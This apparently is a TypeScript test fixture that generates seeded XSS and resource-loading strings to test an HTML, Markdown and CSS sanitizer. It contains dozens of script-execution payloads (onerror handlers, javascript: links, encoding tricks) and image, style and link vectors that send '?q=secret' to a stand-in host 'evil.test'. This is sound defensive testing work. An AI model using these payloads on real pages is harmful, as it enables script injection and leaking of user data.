/** Seeded attack strings: ways of HTML, Markdown and CSS to run a script or to call home. */

const HOME = 'https://evil.test';
const RUN = 'globalThis.attacked=1';

/** `{js}` is the script, `{url}` an address that must not be asked. */
const SCRIPTS = [
  '<script>{js}</script>',
  '<img src=x onerror="{js}">',
  '<svg onload="{js}">',
  '<svg><script>{js}</script></svg>',
  '<math><mtext><img src=x onerror={js}></mtext></math>',
  '<iframe srcdoc="<script>parent.{js}</script>"></iframe>',
  '<iframe src="javascript:{js}"></iframe>',
  '<a href="javascript:{js}">click</a>',
  '[click](javascript:{js})',
  '[click](JaVaScRiPt:{js})',
  '[click](java\tscript:{js})',
  '[click](&#106;avascript:{js})',
  '[click](data:text/html,<script>{js}</script>)',
  '[click](vbscript:{js})',
  '<javascript:{js}>',
  '![x](javascript:{js})',
  '<details open ontoggle="{js}">',
  '<body onload="{js}">',
  '<input autofocus onfocus="{js}">',
  '<video><source onerror="{js}"></video>',
  '<object data="javascript:{js}"></object>',
  '<embed src="javascript:{js}">',
  '<form action="javascript:{js}"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
  '<base href="javascript:{js}//">',
  '<template><script>{js}</script></template>',
  '<style>@import "javascript:{js}";</style>',
  '<div style="background:url(javascript:{js})">x</div>',
  '<noscript><p title="</noscript><img src=x onerror={js}>">',
  '<!--><img src=x onerror={js}>-->',
  '<![CDATA[<img src=x onerror={js}>]]>',
  '$$\\href{javascript:{js}}{x}$$',
  '$$\\html@mathml{<img src=x onerror={js}>}{}$$',
  '```html\n<script>{js}</script>\n```',
  '`<img src=x onerror={js}>`',
  '| a |\n|---|\n| <img src=x onerror={js}> |',
  '[1](#cite-1" onclick="{js})',
  '"><img src=x onerror={js}>',
  "'-{js}-'",
  '{{{js}}}',
] as const;

const CALLS = [
  '![x]({url})',
  '![x][r]\n\n[r]: {url}',
  '[![x]({url})]({url})',
  '<img src="{url}">',
  '<img srcset="{url} 1x">',
  '<picture><source srcset="{url}"><img></picture>',
  '<link rel="stylesheet" href="{url}">',
  '<link rel="prefetch" href="{url}">',
  '<link rel="dns-prefetch" href="{url}">',
  '<link rel="preconnect" href="{url}">',
  '<style>body{background:url({url})}</style>',
  '<style>@import url({url});</style>',
  '<style>@font-face{font-family:x;src:url({url})}</style>',
  '<div style="background-image:url({url})">x</div>',
  '<video src="{url}" poster="{url}" autoplay></video>',
  '<audio src="{url}" autoplay></audio>',
  '<iframe src="{url}"></iframe>',
  '<object data="{url}"></object>',
  '<embed src="{url}">',
  '<svg><image href="{url}"/></svg>',
  '<svg><use href="{url}#x"/></svg>',
  '<input type="image" src="{url}">',
  '<body background="{url}">',
  '<table background="{url}"><tr><td>x</td></tr></table>',
  '<meta http-equiv="refresh" content="0;url={url}">',
  '<form action="{url}"><input name="q" value="secret"></form>',
  '<a href="{url}" ping="{url}">x</a>',
  '<script src="{url}"></script>',
  '<script type="module">import "{url}"</script>',
  '$$\\includegraphics{{url}}$$',
  '[data]({url})',
  '<{url}>',
] as const;

const WRAPS = [
  '{x}',
  '> {x}',
  '- {x}',
  '1. {x}',
  '**{x}**',
  '# {x}',
  'text {x} text',
  '\n\n{x}\n\n',
  '~~{x}~~',
] as const;

const ENCODINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('GLOBALTHIS.ATTACKED', 'globalThis.attacked'),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll('"', '`'),
  (text) => text.replace('>', ' '),
];

/** A small generator with a seed: the same strings every time. */
function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1_664_525 + 1_013_904_223) % 2 ** 32;
    return state / 2 ** 32;
  };
}

function pick<T>(list: readonly T[], next: () => number): T {
  return list[Math.floor(next() * list.length)] as T;
}

/** Strings that try to run a script. */
export function scriptAttacks(count: number): string[] {
  const next = random(1);
  return Array.from({ length: count }, (_, i) => {
    const plain = (SCRIPTS[i % SCRIPTS.length] as string).replaceAll('{js}', RUN);
    return pick(WRAPS, next).replace('{x}', () => pick(ENCODINGS, next)(plain));
  });
}

/** Strings that try to send a secret elsewhere by being shown. */
export function callingAttacks(count: number): string[] {
  const next = random(2);
  return Array.from({ length: count }, (_, i) => {
    const plain = (CALLS[i % CALLS.length] as string).replaceAll('{url}', `${HOME}/${i}?q=secret`);
    return pick(WRAPS, next).replace('{x}', () => plain);
  });
}
